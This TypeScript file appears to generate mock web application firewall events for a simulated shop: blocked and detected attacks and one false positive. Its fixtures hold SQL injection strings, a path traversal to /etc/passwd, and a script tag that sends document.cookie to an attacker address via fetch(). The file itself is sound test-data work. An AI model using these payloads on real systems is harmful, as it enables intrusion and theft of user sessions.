// WAF events of the mock's world: a few attacks and a false positive, as a gateway before the shop would tell them.
import type { Actor } from "./world.ts";

interface Spoken {
  readonly ruleId: number;
  readonly message: string;
  readonly variable: string;
  readonly value: string;
  readonly excerpt: string;
  readonly severity: string;
  readonly score: number;
  readonly phase: number;
}

interface Attack {
  readonly method: string;
  readonly path: string;
  readonly client: string;
  readonly verdict: "blocked" | "detected" | "logged" | "failed";
  readonly rules: readonly Spoken[];
}

const sqli = (variable: string, value: string, excerpt: string): Spoken => ({
  ruleId: 942_100,
  message: "SQL injection, by the shape of its tokens",
  variable,
  value,
  excerpt,
  severity: "CRITICAL",
  score: 5,
  phase: 2,
});

export const attacks: readonly Attack[] = [
  {
    method: "GET",
    path: "/api/products",
    client: "203.0.113.66",
    verdict: "blocked",
    rules: [
      sqli("ARGS:q", "1' or '1'='1", "shoes 1' or '1'='1"),
      {
        ruleId: 942_190,
        message: "Database commands in a parameter",
        variable: "ARGS:q",
        value: "union select",
        excerpt: "1 union select user, ‹redacted:password-argument› from accounts",
        severity: "CRITICAL",
        score: 5,
        phase: 2,
      },
    ],
  },
  {
    method: "GET",
    path: "/images/../../etc/passwd",
    client: "198.51.100.23",
    verdict: "blocked",
    rules: [
      {
        ruleId: 930_120,
        message: "A file of the operating system is asked for",
        variable: "REQUEST_FILENAME",
        value: "etc/passwd",
        excerpt: "/images/../../etc/passwd",
        severity: "CRITICAL",
        score: 5,
        phase: 1,
      },
    ],
  },
  {
    method: "POST",
    path: "/api/reviews",
    client: "192.0.2.14",
    verdict: "detected",
    rules: [sqli("ARGS:json.comment", "select one and", "I could not select one and drop the table at my door")],
  },
  {
    method: "GET",
    path: "/search",
    client: "203.0.113.66",
    verdict: "blocked",
    rules: [
      {
        ruleId: 941_110,
        message: "A script tag in a parameter",
        variable: "ARGS:term",
        value: "<script>",
        excerpt: "<script>fetch('//203.0.113.66/'+document.cookie)</script>",
        severity: "CRITICAL",
        score: 5,
        phase: 2,
      },
    ],
  },
  {
    method: "GET",
    path: "/healthz",
    client: "10.42.0.3",
    verdict: "logged",
    rules: [
      {
        ruleId: 920_350,
        message: "The Host is an address",
        variable: "REQUEST_HEADERS:Host",
        value: "10.42.1.11",
        excerpt: "10.42.1.11:8080",
        severity: "WARNING",
        score: 3,
        phase: 1,
      },
    ],
  },
  { method: "POST", path: "/api/import", client: "192.0.2.14", verdict: "failed", rules: [] },
];

/** The kind's own fields of one event of a gateway before the actor. */
export function wafSpecials(number: number, actor: Actor, at: number): Record<string, unknown> {
  const attack = attacks[Math.min(Math.floor(at * attacks.length), attacks.length - 1)] as Attack;
  const { rules, verdict } = attack;
  const score = rules.reduce((sum, each) => sum + each.score, 0);
  return {
    kind: "waf",
    verdict,
    mode: verdict === "blocked" ? "block" : "detect",
    policy: "shop-frontend",
    door: "proxy",
    phase: verdict === "blocked" ? 2 : 0,
    status: verdict === "blocked" ? 403 : 200,
    method: attack.method,
    host: `${actor.name}.shop.example`,
    path: attack.path,
    clientAddress: `::ffff:${attack.client}`,
    clientPort: 40_000 + (number % 20_000),
    clientReason: attack.client.startsWith("10.") ? "the node's own address" : "",
    inboundScore: score,
    inboundThreshold: 5,
    outboundThreshold: 4,
    ruleIds: rules.map(({ ruleId }) => ruleId),
    messages: rules.map(({ message }) => message),
    variables: rules.map(({ variable }) => variable),
    values: rules.map(({ value }) => value),
    excerpts: rules.map(({ excerpt }) => excerpt),
    severities: rules.map(({ severity }) => severity),
    scores: rules.map((rule) => rule.score),
    rulePhases: rules.map(({ phase }) => phase),
    paranoias: rules.map(() => 1),
    tags: ["attack-sqli"],
    decidingRule: verdict === "blocked" ? 949_110 : 0,
    because: verdict === "failed" ? "limit: request body" : "rule",
    notInspected: verdict === "failed" ? ["request body over 131,072 bytes"] : [],
    transactionId: `t${number.toString(36)}`,
    ruleSet: "5d41402abc4b2a76b9719d911017c592",
    requestBytes: attack.method === "POST" ? 2048 : 0,
    evaluationUs: 180 + (number % 400),
  };
}
